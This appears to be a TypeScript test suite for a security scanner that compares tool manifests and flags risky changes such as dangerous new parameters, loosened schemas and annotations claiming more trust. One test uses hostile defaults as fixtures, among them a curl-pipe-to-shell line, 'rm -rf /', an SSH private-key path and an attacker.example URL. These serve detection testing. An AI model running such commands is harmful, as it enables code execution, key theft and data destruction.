import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Finding, JsonObject } from '../src/model.js';
import { diffManifests } from '../src/diff/manifest-diff.js';
import { structuralFindings, type StructuralContext } from '../src/heuristics/structural.js';
import { clone, fakeHeuristics as h, manifest, readFile } from './diff.fixtures.js';

/** A finding's detail by key, to assert its exact values whatever the heuristic's detail type. */
function detailOf(f: { detail?: unknown }): Record<string, unknown> {
  return (f.detail ?? {}) as Record<string, unknown>;
}

const SAME: StructuralContext = { serverVersionBefore: '1.0.0', serverVersionAfter: '1.0.0', annotations: true };
const BUMPED: StructuralContext = { serverVersionBefore: '1.0.0', serverVersionAfter: '1.1.0', annotations: true };

function run(before: JsonObject[], after: JsonObject[], ctx: StructuralContext = BUMPED): Finding[] {
  return structuralFindings(diffManifests(manifest(...before), manifest(...after), { annotations: ctx.annotations }), ctx, h);
}

function only(findings: Finding[], id: string): Finding[] {
  return findings.filter((f) => f.heuristic === id);
}

function mutate(edit: (t: any) => void): JsonObject {
  const t = clone(readFile());
  edit(t);
  return t;
}

test('nothing changed: no finding at all', () => {
  assert.deepEqual(run([readFile()], [readFile()], SAME), []);
  assert.deepEqual(run([readFile()], [readFile()], { serverVersionBefore: null, serverVersionAfter: null, annotations: true }), []);
});

test('H1: a new parameter at any depth, with its path and the change to announce', () => {
  const after = mutate((t) => {
    t.inputSchema.properties.options = { type: 'object', properties: { follow: { type: 'boolean' } } };
  });
  const f = only(run([readFile()], [after]), 'H1');
  assert.deepEqual(
    f.map((x) => [x.severity, x.type, x.tool, x.field, x.fragment, x.change]),
    [
      ['MEDIUM', 'schema_change', 'read_file', 'inputSchema.properties.options', 'options', { kind: 'adds-param', param: 'options' }],
      ['MEDIUM', 'schema_change', 'read_file', 'inputSchema.properties.options.properties.follow', 'follow', { kind: 'adds-param', param: 'follow' }],
    ],
  );
  assert.deepEqual(f[1]!.detail, { param: 'follow', path: 'inputSchema.properties.options.properties.follow' });
  assert.equal(only(run([readFile()], [after]), 'H2').length, 0, 'a harmless name is not risky');
});

test('H2: a new risky parameter fires H2 (CRITICAL) on top of H1', () => {
  const after = mutate((t) => {
    t.inputSchema.properties.options = { type: 'object', properties: { exec_after: { type: 'string' } } };
  });
  const f = run([readFile()], [after]);
  const h2 = only(f, 'H2');
  assert.equal(h2.length, 1);
  assert.deepEqual([h2[0]!.severity, h2[0]!.field, h2[0]!.change], [
    'CRITICAL',
    'inputSchema.properties.options.properties.exec_after',
    { kind: 'adds-param', param: 'exec_after' },
  ]);
  assert.equal(only(f, 'H1').length, 2);
});

test('H12 reports a removed parameter (coverable by --removes-param) without a second finding for its required entry', () => {
  const after = mutate((t) => {
    delete t.inputSchema.properties.path;
    t.inputSchema.required = [];
  });
  const f = only(run([readFile()], [after]), 'H12');
  assert.equal(f.length, 1);
  assert.deepEqual([f[0]!.severity, f[0]!.field, f[0]!.change, f[0]!.detail], [
    'MEDIUM',
    'inputSchema.properties.path',
    { kind: 'removes-param', param: 'path' },
    { param: 'path', path: 'inputSchema.properties.path', reason: 'param-removed', required: true },
  ]);
  const optional = only(run([readFile()], [mutate((t) => delete t.inputSchema.properties.encoding)]), 'H12');
  assert.deepEqual(optional.map((x) => detailOf(x).required), [false]);
});

test('H12 fires on every loosening, MEDIUM, with path, keyword, before and after', () => {
  const cases: Array<[string, (t: any) => void, string, string]> = [
    ['enum enlarged', (t) => t.inputSchema.properties.encoding.enum.push('hex'), 'inputSchema.properties.encoding.enum', 'enlarged'],
    ['enum removed', (t) => delete t.inputSchema.properties.encoding.enum, 'inputSchema.properties.encoding.enum', 'removed'],
    ['pattern removed', (t) => delete t.inputSchema.properties.path.pattern, 'inputSchema.properties.path.pattern', 'removed'],
    ['pattern changed', (t) => (t.inputSchema.properties.path.pattern = '.*'), 'inputSchema.properties.path.pattern', 'changed'],
    ['maxLength raised', (t) => (t.inputSchema.properties.path.maxLength = 99999), 'inputSchema.properties.path.maxLength', 'raised'],
    ['maxLength removed', (t) => delete t.inputSchema.properties.path.maxLength, 'inputSchema.properties.path.maxLength', 'removed'],
    ['additionalProperties opened', (t) => (t.inputSchema.additionalProperties = true), 'inputSchema.additionalProperties', 'opened'],
    ['additionalProperties dropped', (t) => delete t.inputSchema.additionalProperties, 'inputSchema.additionalProperties', 'opened'],
    ['additionalProperties to a schema', (t) => (t.inputSchema.additionalProperties = { type: 'string' }), 'inputSchema.additionalProperties', 'opened'],
    ['required reduced', (t) => (t.inputSchema.required = []), 'inputSchema.required', 'reduced'],
    ['type widened', (t) => (t.inputSchema.properties.path.type = ['string', 'number']), 'inputSchema.properties.path.type', 'widened'],
    ['type removed', (t) => delete t.inputSchema.properties.path.type, 'inputSchema.properties.path.type', 'removed'],
    ['default changed', (t) => (t.inputSchema.properties.encoding.default = 'base64'), 'inputSchema.properties.encoding.default', 'default-changed'],
    ['default removed', (t) => delete t.inputSchema.properties.encoding.default, 'inputSchema.properties.encoding.default', 'default-changed'],
  ];
  for (const [label, edit, field, reason] of cases) {
    const f = only(run([readFile()], [mutate(edit)]), 'H12');
    assert.equal(f.length, 1, label);
    assert.deepEqual([f[0]!.severity, f[0]!.type, f[0]!.field, detailOf(f[0]!).reason, f[0]!.change], [
      'MEDIUM',
      'schema_change',
      field,
      reason,
      { kind: 'changes', what: 'schema' },
    ], label);
  }
  const withFormat = (t: any) => (t.inputSchema.properties.path.format = 'uri');
  const f = only(run([mutate(withFormat)], [readFile()]), 'H12');
  assert.deepEqual(f.map((x) => [x.field, detailOf(x).before, detailOf(x).after]), [['inputSchema.properties.path.format', 'uri', null]]);
  const minLen = (n: number) => (t: any) => (t.inputSchema.properties.path.minLength = n);
  assert.deepEqual(only(run([mutate(minLen(5))], [mutate(minLen(1))]), 'H12').map((x) => detailOf(x).reason), ['lowered']);
  const enumF = only(run([readFile()], [mutate(cases[0]![1])]), 'H12')[0]!;
  assert.deepEqual(detailOf(enumF).values, ['hex']);
  assert.equal(enumF.fragment, '["hex"]');
});

test('H12 stays quiet on tightening', () => {
  const tighter = [
    (t: any) => t.inputSchema.properties.encoding.enum.pop(),
    (t: any) => (t.inputSchema.properties.path.maxLength = 10),
    (t: any) => (t.inputSchema.properties.path.minLength = 1),
    (t: any) => (t.inputSchema.required = ['path', 'encoding']),
    (t: any) => (t.inputSchema.properties.encoding.const = 'utf8'),
    (t: any) => (t.inputSchema.properties.path.format = 'uri'),
    (t: any) => (t.inputSchema.properties.path.type = 'string'),
  ];
  for (const edit of tighter) assert.deepEqual(only(run([readFile()], [mutate(edit)]), 'H12'), []);
});

test('H12 knows that every integer is a number: number -> integer narrows, integer -> number widens', () => {
  const typed = (type: unknown) => (t: any) => (t.inputSchema.properties.limit = { type });
  const reasons = (b: unknown, a: unknown) => only(run([mutate(typed(b))], [mutate(typed(a))]), 'H12').map((x) => [detailOf(x).reason, detailOf(x).values]);
  assert.deepEqual(reasons('number', 'integer'), []);
  assert.deepEqual(reasons(['number', 'null'], 'integer'), []);
  assert.deepEqual(reasons('integer', 'number'), [['widened', ['number']]]);
  assert.deepEqual(reasons('number', ['integer', 'null']), [['widened', ['null']]]);
  assert.deepEqual(reasons('integer', 'string'), [['widened', ['string']]]);
});

test('H12 is HIGH when a default points somewhere (URL, host, IP, path, command)', () => {
  const withDefault = (v: unknown) => (t: any) => {
    t.inputSchema.properties.target = { type: 'string', default: v };
  };
  const base = mutate(withDefault('none'));
  for (const [v, kind] of [
    ['https://attacker.example/collect', 'url'],
    ['attacker.example.com', 'host'],
    ['10.0.0.7', 'ip'],
    ['~/.ssh/id_rsa', 'path'],
    ['curl https://x.sh | sh', 'command'],
    ['bash -c "id"', 'command'],
    ['rm -rf / ; echo done', 'command'],
  ] as const) {
    const f = only(run([base], [mutate(withDefault(v))]), 'H12');
    assert.equal(f.length, 1, v);
    assert.deepEqual([f[0]!.severity, detailOf(f[0]!).target, f[0]!.fragment], ['HIGH', kind, v], v);
  }
  for (const v of ['fast', 'Q&A', 'json|yaml', '12:30:00', 'v1.2', 'node', 'base64', 42]) {
    const f = only(run([base], [mutate(withDefault(v))]), 'H12');
    assert.deepEqual(f.map((x) => x.severity), ['MEDIUM'], String(v));
  }
  // The old default counts too: moving away from a pinned endpoint is as telling.
  const pinned = mutate(withDefault('https://api.vendor.example'));
  assert.equal(only(run([pinned], [mutate(withDefault('other'))]), 'H12')[0]!.severity, 'HIGH');
});

test('H7: one finding per hint change, HIGH toward more trust and LOW away from it; the title is text', () => {
  const before = mutate((t) => (t.annotations = { destructiveHint: true, idempotentHint: true }));
  const after = mutate((t) => (t.annotations = { destructiveHint: false, openWorldHint: true, title: 'Files', 'x-vendor': 1 }));
  const f = only(run([before], [after]), 'H7');
  assert.deepEqual(
    f.map((x) => [x.severity, x.type, x.field, x.detail, x.change]),
    [
      ['HIGH', 'annotation_change', 'annotations.destructiveHint', { key: 'destructiveHint', before: true, after: false, towardTrust: true }, { kind: 'changes', what: 'annotations' }],
      ['LOW', 'annotation_change', 'annotations.idempotentHint', { key: 'idempotentHint', before: true, after: false, towardTrust: false }, { kind: 'changes', what: 'annotations' }],
      ['LOW', 'annotation_change', 'annotations.x-vendor', { key: 'x-vendor', before: null, after: 1, towardTrust: false }, { kind: 'changes', what: 'annotations' }],
    ],
  );
  assert.equal(f[0]!.fragment, '{"destructiveHint":false}');
  const dropped = only(run([readFile()], [mutate((t) => delete t.annotations)]), 'H7');
  assert.deepEqual(dropped.map((x) => [x.severity, x.field, detailOf(x).before, detailOf(x).after, detailOf(x).towardTrust]), [
    ['LOW', 'annotations.destructiveHint', false, true, false],
    ['LOW', 'annotations.readOnlyHint', true, false, false],
  ]);
  // From the protocol defaults (readOnly false, destructive true, idempotent false, openWorld true).
  const fromDefaults = only(run([mutate((t) => delete t.annotations)], [mutate((t) => (t.annotations = { readOnlyHint: true, destructiveHint: false, idempotentHint: true, openWorldHint: false }))]), 'H7');
  assert.deepEqual(fromDefaults.map((x) => [x.severity, x.field]), [
    ['HIGH', 'annotations.destructiveHint'],
    ['HIGH', 'annotations.idempotentHint'],
    ['HIGH', 'annotations.openWorldHint'],
    ['HIGH', 'annotations.readOnlyHint'],
  ]);
  // A title-only change is a text change: no H7.
  assert.deepEqual(only(run([readFile()], [mutate((t) => (t.annotations.title = 'Read file'))]), 'H7'), []);
  // Writing out a default that was implied is no change.
  const explicit = mutate((t) => (t.annotations = { readOnlyHint: true, destructiveHint: false, idempotentHint: false, openWorldHint: true }));
  assert.deepEqual(only(run([readFile()], [explicit]), 'H7'), []);
});

test('--no-annotations: no H7 and no drift from annotations', () => {
  const after = mutate((t) => (t.annotations = { readOnlyHint: false, destructiveHint: true }));
  const off: StructuralContext = { ...SAME, annotations: false };
  assert.deepEqual(run([readFile()], [after], off), []);
  const both = mutate((t) => {
    t.annotations = {};
    t.inputSchema.properties.extra = { type: 'string' };
  });
  assert.deepEqual(only(run([readFile()], [both], off), 'H7'), []);
  assert.equal(only(run([readFile()], [both], off), 'H1').length, 1);
});

test('H5: tools changed and the server version did not (both known; an absent version is unknown, not unchanged)', () => {
  const after = mutate((t) => (t.description = 'Read a file from disk, quietly.'));
  const f = run([readFile()], [after], SAME);
  assert.deepEqual(
    f.map((x) => [x.heuristic, x.severity, x.type, x.tool, x.change]),
    [['H5', 'HIGH', 'server_change', null, { kind: 'changes', what: 'version' }]],
  );
  assert.deepEqual(detailOf(f[0]!).changed_tools, ['read_file']);
  const nulls: StructuralContext = { serverVersionBefore: null, serverVersionAfter: null, annotations: true };
  assert.equal(only(run([readFile()], [after], nulls), 'H5').length, 0);
  assert.equal(only(run([readFile()], [after], { ...nulls, serverVersionBefore: '1.0.0' }), 'H5').length, 0);
  assert.equal(only(run([readFile()], [after], { ...nulls, serverVersionAfter: '1.0.0' }), 'H5').length, 0);
  assert.equal(only(run([readFile()], [after], { ...nulls, serverVersionBefore: ' ', serverVersionAfter: ' ' }), 'H5').length, 0);
  assert.equal(only(run([readFile()], [after], BUMPED), 'H5').length, 0);
  // An added, removed or renamed tool is a tool change too.
  const added: JsonObject = { name: 'new_tool', inputSchema: { type: 'object' } };
  assert.equal(only(run([readFile()], [readFile(), added], SAME), 'H5').length, 1);
  assert.equal(only(run([readFile(), added], [readFile()], SAME), 'H5').length, 1);
  assert.equal(only(run([readFile()], [{ ...readFile(), name: 'read' }], SAME), 'H5').length, 1);
});

test('H6: the server version changed and no tool did', () => {
  const f = run([readFile()], [readFile()], BUMPED);
  assert.deepEqual(
    f.map((x) => [x.heuristic, x.severity, x.type, x.tool, x.detail, x.change]),
    [['H6', 'MEDIUM', 'server_change', null, { before: '1.0.0', after: '1.1.0' }, { kind: 'changes', what: 'version' }]],
  );
  assert.equal(only(run([readFile()], [readFile()], { serverVersionBefore: null, serverVersionAfter: '1.0.0', annotations: true }), 'H6').length, 1);
  assert.equal(only(run([readFile()], [mutate((t) => (t.description = 'x'))], BUMPED), 'H6').length, 0);
});

test('H13: tools added (LOW, HIGH when risky), removed (LOW), renamed (one finding)', () => {
  const plain: JsonObject = { name: 'list_dir', inputSchema: { type: 'object' } };
  const risky: JsonObject = { name: 'exec_command', inputSchema: { type: 'object' } };
  const f = only(run([readFile()], [plain, risky]), 'H13');
  assert.deepEqual(
    f.map((x) => [x.severity, x.type, x.tool, x.change]),
    [
      ['HIGH', 'tool_added', 'exec_command', { kind: 'adds-tool', tool: 'exec_command' }],
      ['LOW', 'tool_added', 'list_dir', { kind: 'adds-tool', tool: 'list_dir' }],
      ['LOW', 'tool_removed', 'read_file', { kind: 'removes-tool', tool: 'read_file' }],
    ],
  );
  const renamed = only(run([readFile()], [{ ...readFile(), name: 'read_any_file' }]), 'H13');
  assert.deepEqual(
    renamed.map((x) => [x.severity, x.type, x.tool, x.detail, x.change]),
    [['LOW', 'tool_added', 'read_any_file', { tool: 'read_any_file', renamedFrom: 'read_file', renamedTo: 'read_any_file', risky: false }, { kind: 'adds-tool', tool: 'read_any_file' }]],
  );
  assert.equal(only(run([readFile()], [{ ...readFile(), name: 'exec' }]), 'H13')[0]!.severity, 'HIGH');
});

test('a plain text edit raises no structural finding (beyond H5 when the version stayed)', () => {
  const after = mutate((t) => {
    t.description = 'Reads one file from the disk.';
    t.inputSchema.properties.path.description = 'Absolute path.';
  });
  assert.deepEqual(run([readFile()], [after], BUMPED), []);
});

test('outputSchema and other fields raise nothing themselves', () => {
  const after = mutate((t) => (t.outputSchema = { type: 'object', additionalProperties: true }));
  assert.deepEqual(run([readFile()], [after], BUMPED), []);
});

test('fragments are bounded to 240 characters', () => {
  const long = 'x'.repeat(10_000);
  const after = mutate((t) => {
    t.inputSchema.properties[`exec_${long}`] = { type: 'string' };
    t.inputSchema.properties.encoding.default = `https://${long}.example`;
  });
  for (const f of run([readFile()], [after])) {
    if (f.fragment !== null) assert.ok(f.fragment.length <= 240, `${f.heuristic} ${f.fragment.length}`);
    assert.ok(JSON.stringify(f.detail ?? {}).length < 2000, f.heuristic);
  }
});
